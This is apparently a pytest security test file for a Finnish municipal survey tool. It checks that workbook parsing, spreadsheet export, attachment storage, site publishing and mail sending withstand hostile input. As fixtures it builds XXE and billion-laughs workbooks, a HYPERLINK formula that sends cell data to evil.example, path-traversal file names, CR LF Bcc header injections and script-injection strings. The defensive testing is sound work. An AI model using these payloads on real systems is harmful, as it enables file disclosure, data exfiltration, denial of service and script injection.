"""Hostile and careless input: workbook XML, formulas in what we write, names from outside,
markup on the site, mail headers and huge or deep input never harm the coordinator, the
reviewers or the site's readers."""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.comments import Comment
from test_site_browser import browser  # noqa: F401 - the module's Chromium, a fixture

from yhteistuumin_survey.errors import InputError
from yhteistuumin_survey.tables import read_workbook

# --- 1. XML entities in the workbooks we parse --------------------------------------------

SECRET = "SALAINEN-RIVI-etc-passwd"


def _xxe(secret_file: Path) -> bytes:
    return f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret_file}">]>'.encode()


def _laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lollollollollollollollollollol">']
    entities += [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
    return ("<!DOCTYPE lolz [" + "".join(entities) + "]>").encode()


def _plain_workbook(path: Path) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Käytännön nimi", "Tavoite"])
    sheet.append(["Runopolku", "VIITE"])
    sheet["C2"].hyperlink = "https://kunta.example.fi/runopolku"
    sheet["A2"].comment = Comment("VIITE", "Anna")
    book.save(path)
    return path


def _with_doctype(source: Path, target: Path, member: str, doctype: bytes, ref: bytes) -> Path:
    """``source`` with ``doctype`` put before the root element of ``member`` and the text
    VIITE (or a hyperlink's target) of that part replaced by the entity reference ``ref``."""
    with zipfile.ZipFile(source) as archive, \
            zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        assert member in archive.namelist()
        for info in archive.infolist():
            data = archive.read(info)
            if info.filename == member:
                declaration = re.match(rb"<\?xml[^>]*\?>\s*", data)
                at = declaration.end() if declaration else 0
                data = data[:at] + doctype + data[at:]
                data = data.replace(b"VIITE", ref)
            out.writestr(info, data)
    return target


PARTS = ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels",
         "xl/worksheets/_rels/sheet1.xml.rels", "xl/comments/comment1.xml", "xl/styles.xml",
         "[Content_Types].xml"]


@pytest.mark.parametrize("part", PARTS)
@pytest.mark.parametrize("attack", ["xxe", "billion-laughs"])
def test_a_workbook_whose_xml_declares_entities_is_refused_in_one_line(tmp_path, part, attack):
    secret = tmp_path / "passwd"
    secret.write_text(SECRET + "\n")
    doctype, ref = (_xxe(secret), b"&xxe;") if attack == "xxe" else (_laughs(), b"&lol9;")
    path = _with_doctype(_plain_workbook(tmp_path / "pohja.xlsx"), tmp_path / "vastaus.xlsx",
                         part, doctype, ref)
    with pytest.raises(InputError) as refused:
        read_workbook(path)
    assert str(refused.value) == (
        f"{path}: {part} declares XML entities (a DOCTYPE), which no spreadsheet program "
        "writes; not read. Ask the sender to save the file again in Excel or LibreOffice")
    assert SECRET not in str(refused.value)


def test_a_doctype_in_a_part_of_any_name_is_found(tmp_path):
    secret = tmp_path / "passwd"
    secret.write_text(SECRET + "\n")
    path = tmp_path / "vastaus.xlsx"
    source = _plain_workbook(tmp_path / "pohja.xlsx")
    with zipfile.ZipFile(source) as archive, zipfile.ZipFile(path, "a") as out:
        for info in archive.infolist():
            out.writestr(info, archive.read(info))
        out.writestr("xl/media/image1.png", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 64)
        out.writestr("xl/drawings/piirros.dat", b'<?xml version="1.0"?>' + _xxe(secret)
                     + b"<wsDr>&xxe;</wsDr>")
    with pytest.raises(InputError, match=r"xl/drawings/piirros\.dat declares XML entities"):
        read_workbook(path)


def test_a_plain_workbook_with_a_comment_and_a_link_is_still_read(tmp_path):
    sheets = read_workbook(_plain_workbook(tmp_path / "pohja.xlsx"))
    assert sheets[0].rows[1][:2] == ["Runopolku", "VIITE"]
    assert sheets[0].comments == {(1, 0): "VIITE"}


def _ods(path: Path, doctype: str = "", goal: str = "Tavoite") -> Path:
    office = "urn:oasis:names:tc:opendocument:xmlns"
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}'
        f'<office:document-content xmlns:office="{office}:office:1.0" '
        f'xmlns:table="{office}:table:1.0" xmlns:text="{office}:text:1.0" office:version="1.2">'
        '<office:body><office:spreadsheet><table:table table:name="Taulukko1">'
        '<table:table-row><table:table-cell office:value-type="string"><text:p>Käytännön nimi'
        '</text:p></table:table-cell><table:table-cell office:value-type="string"><text:p>'
        f'{goal}</text:p></table:table-cell></table:table-row>'
        '<table:table-row table:visibility="collapse"><table:table-cell '
        'office:value-type="string"><text:p>Runopolku</text:p></table:table-cell>'
        '</table:table-row></table:table></office:spreadsheet></office:body>'
        '</office:document-content>')
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("META-INF/manifest.xml", (
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
            f'"{office}:manifest:1.0" manifest:version="1.2"><manifest:file-entry '
            'manifest:full-path="/" manifest:media-type='
            '"application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
            'manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            '</manifest:manifest>'))
        archive.writestr("content.xml", content.encode("utf-8"))
    return path


def test_an_ods_whose_content_declares_an_external_entity_is_refused(tmp_path):
    secret = tmp_path / "passwd"
    secret.write_text(SECRET + "\n")
    plain = read_workbook(_ods(tmp_path / "oikea.ods"))
    assert plain[0].rows[0] == ["Käytännön nimi", "Tavoite"] and plain[0].hidden_rows == {1}
    path = _ods(tmp_path / "vastaus.ods", _xxe(secret).decode(), "&xxe;")
    with pytest.raises(InputError, match=r"vastaus\.ods: content\.xml declares XML entities "
                                         r"\(a DOCTYPE\)"):
        read_workbook(path)


def test_a_doctype_hidden_behind_utf16_and_a_comment_is_still_found(tmp_path):
    secret = tmp_path / "passwd"
    secret.write_text(SECRET + "\n")
    source = _plain_workbook(tmp_path / "pohja.xlsx")
    target = tmp_path / "utf16.xlsx"
    with zipfile.ZipFile(source) as archive, zipfile.ZipFile(target, "w") as out:
        for info in archive.infolist():
            data = archive.read(info)
            if info.filename == "xl/styles.xml":
                text = re.sub(r"<\?xml[^>]*\?>\s*", "", data.decode("utf-8"))
                data = ('<?xml version="1.0" encoding="UTF-16"?><!-- <a> -->'
                        + _xxe(secret).decode() + text).encode("utf-16")
            out.writestr(info, data)
    with pytest.raises(InputError, match=r"xl/styles\.xml declares XML entities"):
        read_workbook(target)


def test_ingest_of_an_xxe_workbook_says_one_line_and_stores_no_practice(cli, tmp_path):
    secret = tmp_path / "passwd"
    secret.write_text(SECRET + "\n")
    inbox = tmp_path / "saapuneet"
    inbox.mkdir()
    _with_doctype(_plain_workbook(tmp_path / "pohja.xlsx"), inbox / "vastaus.xlsx",
                  "xl/worksheets/sheet1.xml", _xxe(secret), b"&xxe;")
    result = cli("ingest", str(inbox), "--format", "json")
    assert result.exit_code == 1 and result.exception is None, result.output
    data = json.loads(result.stdout)
    assert data["counts"] == {"error": 1}
    assert "xl/worksheets/sheet1.xml declares XML entities" in data["items"][0]["reason"]
    assert SECRET not in result.output
    listed = cli("practices", "list", "--format", "json")
    assert SECRET not in listed.output


# --- 2. Formulas in what we write for people to open in Excel ---------------------------

QUOTED = ["'=1+1 on kaava", "'-merkki alussa", '=HYPERLINK("http://evil.example/?"&A1,"klikkaa")']


@pytest.mark.parametrize("resaved", [False, True], ids=["openpyxl", "libreoffice"])
def test_text_that_starts_with_a_quote_and_a_formula_character_round_trips_exactly(
        session, tmp_path, resaved):
    from factories import make_practice
    from test_review import SHEET, export_one, fill, headers, row_of

    from yhteistuumin_survey.db.models import Practice
    from yhteistuumin_survey.review import import_review

    practices = [make_practice(session, title=typed, summary=typed, corrected_title=typed)
                 for typed in QUOTED]
    path = export_one(session, tmp_path)
    fill(path, {p.id: {"Päätös": "hyväksytty"} for p in practices})
    if resaved:
        from test_review_libreoffice import resave

        path = resave(path, tmp_path)
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name)
                       for name in sheets)
    sheet = openpyxl.load_workbook(path)[SHEET]
    cols = headers(sheet)
    for practice in practices:
        cell = sheet.cell(row=row_of(sheet, practice.id), column=cols["Korjattu nimi"])
        assert cell.data_type == "s"
    report = import_review([path], session=session)
    assert report.counts["applied"] == len(QUOTED) and not report.failed, report.to_dict()
    session.expire_all()
    for practice, typed in zip(practices, QUOTED, strict=True):
        assert session.get(Practice, practice.id).corrected_title == typed


# --- 3. Names from outside: attachments and zip members --------------------------------


def _xlsx_bytes(title: str) -> bytes:
    import io

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Käytännön nimi", "Tavoite", "Kunta"])
    sheet.append([title, "Lukuinto kasvaa", "Kuhmo"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


HOSTILE_NAMES = ["../../../etc/cron.d/x.xlsx", "..\\..\\x.xlsx", "/abs/path.xlsx", "CON.xlsx",
                 "a" * 300 + ".xlsx", "NUL-PLACE.xlsx", "NL-PLACE.xlsx", "sama.xlsx",
                 "sama.xlsx"]


def _hostile_mail(path: Path) -> Path:
    """A mail whose attachments are named as an attacker would name them (a NUL and a CR LF
    in RFC 2231 names too) and a zip whose members climb out of their folder."""
    import io
    from email.message import EmailMessage
    from email.policy import SMTP

    message = EmailMessage()
    message["From"] = "Anna Virtanen <anna.virtanen@kuhmo.fi>"
    message["To"] = "kysely@kulttuuri.fi"
    message["Subject"] = "Vastaus kyselyyn"
    message["Date"] = "Mon, 07 Dec 2026 08:00:00 +0200"
    message.set_content("Liitteenä vastauksemme.")
    for number, name in enumerate(HOSTILE_NAMES):
        message.add_attachment(_xlsx_bytes(f"Runopolku {number}"), maintype="application",
                               subtype="vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                               filename=name)
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("../../../zip-pako.xlsx", _xlsx_bytes("Lukupiiri 1"))
        archive.writestr("/abs/zip-juuri.xlsx", _xlsx_bytes("Lukupiiri 2"))
    message.add_attachment(packed.getvalue(), maintype="application", subtype="zip",
                           filename="paketti.zip")
    data = message.as_bytes(policy=SMTP)
    data = data.replace(b'filename="NUL-PLACE.xlsx"', b"filename*=utf-8''nul%00nimi.xlsx")
    data = data.replace(b'filename="NL-PLACE.xlsx"',
                        b"filename*=utf-8''rivi%0D%0ABcc%3Ax%40evil.example.xlsx")
    path.write_bytes(data)
    return path


def test_attachments_named_to_climb_out_are_stored_inside_received_and_their_names_said(
        cli, workspace, tmp_path):
    from sqlmodel import Session, create_engine, select

    from yhteistuumin_survey.db.models import ReceivedFile

    mail = _hostile_mail(tmp_path / "vastaus.eml")
    before = {p for p in tmp_path.rglob("*") if workspace.root not in p.parents}
    result = cli("ingest", str(mail), "--format", "json")
    assert result.exception is None, result.output
    data = json.loads(result.stdout)
    files = [item["file"] for item in data["items"]]
    assert all("\n" not in name and "\r" not in name and "\x00" not in name for name in files)
    assert f"{mail} » x.xlsx (sent as '../../../etc/cron.d/x.xlsx')" in files
    assert f"{mail} » x.xlsx (sent as '..\\..\\x.xlsx')" in files
    assert f"{mail} » path.xlsx (sent as '/abs/path.xlsx')" in files
    assert f"{mail} » nulnimi.xlsx (sent as 'nul\\x00nimi.xlsx')" in files
    assert f"{mail} » CON.xlsx" in files and files.count(f"{mail} » sama.xlsx") == 2
    assert f"{mail} » paketti.zip » zip-pako.xlsx (sent as '../../../zip-pako.xlsx')" in files
    assert f"{mail} » paketti.zip » zip-juuri.xlsx (sent as '/abs/zip-juuri.xlsx')" in files
    # Nothing was written beside the workspace, and every stored copy is inside received/.
    assert {p for p in tmp_path.rglob("*") if workspace.root not in p.parents} == before
    received = (workspace.root / "outputs" / "received").resolve()
    engine = create_engine(f"sqlite:///{workspace.root / 'outputs' / 'yhteistuumin.sqlite'}")
    with Session(engine) as session:
        rows = session.exec(select(ReceivedFile)).all()
    engine.dispose()
    stored = [(workspace.root / row.stored_path).resolve() for row in rows]
    assert len(rows) == 1 + len(HOSTILE_NAMES) + 1 + 2  # the mail, attachments, zip, members
    assert len(set(stored)) == len(stored)  # the two "sama.xlsx" are two files
    for path in stored:
        assert received in path.parents and path.is_file()
        assert len(path.name.encode()) <= 255 and path.name.isprintable()
        assert not path.name.upper().startswith(("CON.", "NUL.", "PRN.", "AUX."))


# --- 4. Markup on the published site ---------------------------------------------------

EVIL_TITLE = ('Lukupiiri "lainaus" </script><script>window.__pwned = 1; alert(1)</script>'
              "<!-- ---")
EVIL_SUMMARY = ('" onmouseover="window.__pwned = 2" data-x="</script><script>window.__pwned = 3'
                "</script> javascript:alert(4)")
EVIL_FRONT = 'Runoilta "pihalla"\n---\nstatus: julkaistu\n# otsikko'


@pytest.fixture
def evil_site(workspace, session):
    from factories import make_practice
    from publish_support import settings_for
    from test_site_browser import _served

    from yhteistuumin_survey.publish import publish_site

    practices = {
        "evil": make_practice(
            session, title=EVIL_TITLE, status="approved", municipalities=["837"],
            summary=EVIL_SUMMARY, keywords=["</script><script>window.__pwned = 5</script>"],
            contact_name='Anna "</script>" Virtanen', contact_email="anna.virtanen@tampere.fi",
            publish_consent=True),
        "front": make_practice(session, title=EVIL_FRONT, status="approved",
                               municipalities=["091"], summary="---\ntitle: toinen"),
    }
    result = publish_site(workspace, session=session, settings=settings_for(workspace))
    root = workspace.outputs / "site"
    with _served(root) as url:
        yield {"url": url, "root": root, "cms": result.cms,
               "ids": {key: p.id for key, p in practices.items()}}


@pytest.mark.browser
def test_markup_in_a_title_and_summary_stays_text_in_json_ld_meta_and_search(
        evil_site, browser):  # noqa: F811 - the fixture imported above
    from test_site_browser import wait_titles

    context = browser.new_context()
    page = context.new_page()
    dialogs: list[str] = []
    errors: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: errors.append(str(error)))
    try:
        card = next(evil_site["root"].glob(f"{evil_site['ids']['evil']}-*/index.html"))
        page.goto(evil_site["url"] + card.relative_to(evil_site["root"]).as_posix())
        page.wait_for_load_state("load")
        assert page.evaluate("window.__pwned") is None and dialogs == []
        assert page.eval_on_selector_all("script:not([src])", "n => n.length") == 1
        data = json.loads(page.eval_on_selector("script[type='application/ld+json']",
                                                "node => node.textContent"))
        assert data["name"] == EVIL_TITLE
        assert page.get_attribute("meta[property='og:title']", "content").startswith(EVIL_TITLE)
        assert page.get_attribute("meta[name='description']", "content").startswith(
            EVIL_SUMMARY[:60])
        assert page.inner_text("h1") == EVIL_TITLE
        assert page.eval_on_selector_all("main a[href^='javascript:'], [onmouseover]",
                                         "n => n.length") == 0

        page.goto(evil_site["url"] + "index.html")
        page.wait_for_selector("#finder:not([hidden])")
        page.fill("#q", "lainaus")  # the search index holds the title as text
        wait_titles(page, [EVIL_TITLE])
        page.wait_for_timeout(300)
        assert page.evaluate("window.__pwned") is None and dialogs == [] and errors == []
    finally:
        context.close()
    from publish_support import unpacked

    for name in ("practices.json", "cards.json.gz"):  # the site keeps cards.json gzipped
        found = list(evil_site["root"].rglob(name))
        assert found, name
        for path in found:
            text = unpacked(path.read_bytes()).decode("utf-8")
            json.loads(text)  # data, not markup: read by JSON.parse, never put into HTML
            assert EVIL_TITLE.replace('"', '\\"') in text


def test_a_title_with_quotes_dashes_and_new_lines_stays_one_front_matter_value(evil_site):
    from publish_support import front_matter

    markdown = next(p for p in evil_site["cms"].glob("*.md")
                    if p.name.startswith(f"{evil_site['ids']['front']}-"))
    meta, body = front_matter(markdown.read_text(encoding="utf-8"))
    assert meta["title"] == EVIL_FRONT
    assert "status" not in meta or meta["status"] != "julkaistu"
    assert "title: toinen" in body and not body.lstrip().startswith("---")


# --- 5. Mail headers --------------------------------------------------------------------


def test_a_contact_name_or_address_holding_cr_lf_bcc_never_adds_a_header_or_recipient(
        cli, workspace, tmp_path):
    from email import message_from_bytes, policy

    from send_support import mail_server
    from test_cli_send import smtp_env

    contacts = tmp_path / "yhteystiedot.csv"
    contacts.write_text(
        "kunta;kuntanumero;nimi;rooli;sähköposti\r\n"
        'Helsinki;091;"Anna Virtanen\r\nBcc: piilo@evil.example";"kulttuuri\r\nSubject: '
        'voitit";anna.virtanen@helsinki.example.fi\r\n'
        'Vantaa;092;Pekka;;"kulttuuri@vantaa.example.fi\r\nBcc: piilo2@evil.example"\r\n',
        encoding="utf-8")
    imported = cli("register", "contacts", str(contacts))
    assert imported.exception is None, imported.output
    with mail_server() as server:
        sent = cli("send", "invite", "--only", "091,092", "--yes", env=smtp_env(server))
    assert sent.exception is None, sent.output
    assert "anna.virtanen@helsinki.example.fi" in server.recipients
    # The address cell is a list of addresses (words without @ dropped, as for "a@x.fi;
    # b@x.fi"): piilo2@evil.example is a contact of its own, mailed on its own, never a Bcc.
    assert sorted(server.recipients) == ["anna.virtanen@helsinki.example.fi",
                                         "kulttuuri@vantaa.example.fi", "piilo2@evil.example"]
    assert len(server.raw) == len(server.recipients)
    for raw in server.raw:
        head = raw.split(b"\r\n\r\n", 1)[0]
        names = [line.split(b":", 1)[0].lower() for line in head.split(b"\r\n")
                 if line and not line.startswith((b" ", b"\t"))]
        assert b"bcc" not in names and names.count(b"subject") == 1 and names.count(b"to") == 1
        message = message_from_bytes(raw, policy=policy.default)
        assert str(message["To"]) in server.recipients and "voitit" not in str(message["Subject"])
        assert "piilo@evil" not in raw.decode("ascii", "replace").split("\r\n\r\n", 1)[0]


# --- 6. Huge or deep input ----------------------------------------------------------------


def _big_message(size: int) -> bytes:
    """A reply carrying an attachment of ``size`` bytes (base64 in the message)."""
    from email.message import EmailMessage
    from email.policy import SMTP

    message = EmailMessage()
    message["From"] = "Anna Virtanen <anna.virtanen@kuhmo.fi>"
    message["To"] = "kysely@kulttuuri.fi"
    message["Subject"] = "Iso liite"
    message["Date"] = "Mon, 07 Dec 2026 08:00:00 +0200"
    message["Message-ID"] = "<iso-liite-1@kuhmo.fi>"
    message.set_content("Video liitteenä.")
    message.add_attachment(b"\x00\x01" * (size // 2), maintype="video", subtype="mp4",
                           filename="esittely.mp4")
    return message.as_bytes(policy=SMTP)


def test_a_message_over_the_size_limit_is_not_downloaded_and_says_so_in_one_line(
        cli, workspace, dovecot):
    from fixtures_fetch import plain_question
    from test_fetch import by_uid, run_json

    # The limit is 300 MB by default, a setting ([limits] max_message_mb); the same rule at
    # 2 MB keeps the test small.
    env = {**dovecot.env("none"), "YHTEISTUUMIN_LIMITS_MAX_MESSAGE_MB": "2"}
    big = dovecot.append(_big_message(3 * 1024 * 1024))
    small = dovecot.append(plain_question())
    code, report = run_json(cli, env=env)
    assert code == 1
    items = by_uid(report)
    assert items[small]["status"] == "to-read"
    assert items[big]["status"] == "failed"
    assert items[big]["reason"] == (
        f"UID {big} (Iso liite): the message is 4 MB, over the 2 MB a message may be "
        "([limits] max_message_mb); not downloaded. It stays in the mailbox: save its "
        "attachment from a mail program and ingest that file")
    assert not list((workspace.outputs / "mailbox").rglob(f"*-{big}.eml"))
    assert dovecot.messages()[big]["flags"] == set()  # left for a person, unmarked
    code, again = run_json(cli, env=env)
    assert (code, again["fetched"], again["already_seen"]) == (0, 0, 2)


def _nested_mail(depth: int) -> bytes:
    """A mail forwarded as an attachment in a mail, ``depth`` times; the innermost holds a
    practice typed with the questionnaire's labels."""
    inner = ("From: anna.virtanen@kuhmo.fi\r\nSubject: vastaus\r\n"
             "Content-Type: text/plain; charset=utf-8\r\n\r\n"
             "Käytännön nimi: Runopolku\r\n").encode()
    heads = [(f"From: anna.virtanen@kuhmo.fi\r\nSubject: VS: {n}\r\nMIME-Version: 1.0\r\n"
              f'Content-Type: multipart/mixed; boundary="raja{n}"\r\n\r\n--raja{n}\r\n'
              "Content-Type: text/plain\r\n\r\nEdelleen.\r\n"
              f"--raja{n}\r\nContent-Type: message/rfc822\r\n"
              f'Content-Disposition: attachment; filename="vs{n}.eml"\r\n\r\n').encode()
             for n in range(depth)]
    tails = [f"\r\n--raja{n}--\r\n".encode() for n in reversed(range(depth))]
    return b"".join(heads) + inner + b"".join(tails)


def test_a_mail_forwarded_in_itself_100_times_is_opened_10_deep_and_says_so(cli, tmp_path):
    from yhteistuumin_survey.ingest import MAX_NESTING

    mail = tmp_path / "sisakkain.eml"
    mail.write_bytes(_nested_mail(100))
    result = cli("ingest", str(mail), "--format", "json")
    assert result.exception is None and result.exit_code == 1, result.output
    data = json.loads(result.stdout)
    assert data["counts"] == {"error": 1}
    chain = " » ".join([str(mail), *[f"vs{n}.eml" for n in range(MAX_NESTING)]])
    assert data["items"][0]["file"] == chain
    assert data["items"][0]["reason"] == (
        f"{chain}: a file inside {MAX_NESTING} others (a mail forwarded in a mail, a zip in a "
        f"zip …), deeper than the {MAX_NESTING} levels opened; not read. The outermost file "
        "is kept whole under outputs/received: ask the sender for the answer itself")
    # A real forward chain of a few levels is still read to its end.
    shallow = tmp_path / "kolme.eml"
    shallow.write_bytes(_nested_mail(3))
    data = json.loads(cli("ingest", str(shallow), "--format", "json").stdout)
    assert [(item["file"], item["outcome"]) for item in data["items"]] == [
        (f"{shallow} » vs0.eml » vs1.eml » vs2.eml", "to-read")]  # the innermost, read


def test_a_mail_nested_past_what_the_parser_can_hold_is_one_line_not_a_traceback(cli, tmp_path):
    mail = tmp_path / "syva.eml"
    mail.write_bytes(_nested_mail(1000))
    result = cli("ingest", str(mail))
    assert result.exception is None and result.exit_code == 1
    assert "Traceback" not in result.output
    assert result.stderr.count("\n") == 1 and "syva.eml: not a readable email" in result.stderr


def test_an_answer_of_10_mb_typed_in_a_mail_is_refused_like_a_10_mb_cell(cli, tmp_path):
    from email.message import EmailMessage
    from email.policy import SMTP

    answer = "Lukupiiri kokoontuu kirjastossa. " * 310_000  # 10 MB
    message = EmailMessage()
    message["From"] = "anna.virtanen@kuhmo.fi"
    message["To"] = "kysely@kulttuuri.fi"
    message["Subject"] = "Vastaus"
    message.set_content(f"Käytännön nimi: Lukupiiri\nTavoite: {answer}\nToteuttaminen: "
                        "kirjastossa\n")
    message.add_attachment(_xlsx_bytes("Runopolku"), maintype="application",
                           subtype="vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                           filename="vastaus.xlsx")
    mail = tmp_path / "pitka.eml"
    mail.write_bytes(message.as_bytes(policy=SMTP))
    result = cli("ingest", str(mail), "--format", "json")
    assert result.exception is None, result.output
    data = json.loads(result.stdout)
    assert data["counts"] == {"error": 1, "new": 1}  # the attachment is still read
    error = next(item for item in data["items"] if item["outcome"] == "error")
    assert re.fullmatch(
        re.escape(f"{mail}: an answer typed in the message is ") + r"10 2\d\d \d\d\d"
        + re.escape(" characters, over the limit of 100 000 ([limits] max_cell_chars); not "
                    "read. Ask for it shorter or as a file, or raise the limit"),
        error["reason"]), error["reason"]
    listed = cli("practices", "list", "--format", "json")
    assert "Lukupiiri kokoontuu" not in listed.stdout
